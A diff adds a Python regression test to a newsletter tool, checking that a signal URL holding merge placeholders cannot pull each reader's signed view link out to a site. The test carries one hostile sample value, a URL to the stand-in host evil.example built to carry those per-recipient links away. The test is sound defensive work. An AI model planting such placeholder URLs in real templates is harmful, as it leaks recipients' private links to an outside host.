@@ -78,3 +78,18 @@ def test_placeholder_tokens_in_signal_text_are_not_substituted(hostile: Issue) -
 
 def test_hostile_editions_pass_their_checks(hostile: Issue) -> None:
     assert not hostile.failed
+
+
+def test_a_signal_url_cannot_smuggle_a_reader_s_signed_links(h: Any) -> None:
+    # The signal's URL is untrusted like its text: with a placeholder in it, the sender's
+    # per-recipient fill would send each reader's view/unsubscribe link to that site.
+    signal = h.make_signal(
+        "evil-url", url="https://evil.example/?v=%%view_url_html%%&t=%%view_url_text%%"
+    )
+    issue = build_issue([signal], h.settings_for(), h.week)
+    reader = Recipient(
+        "M", "https://u.example/x", "https://p.example/x", "https://v.example/SECRET"
+    )
+    for edition in issue.editions:
+        html, text = personalize(edition.html, edition.text, reader)
+        assert "evil.example" not in html and "evil.example" not in text
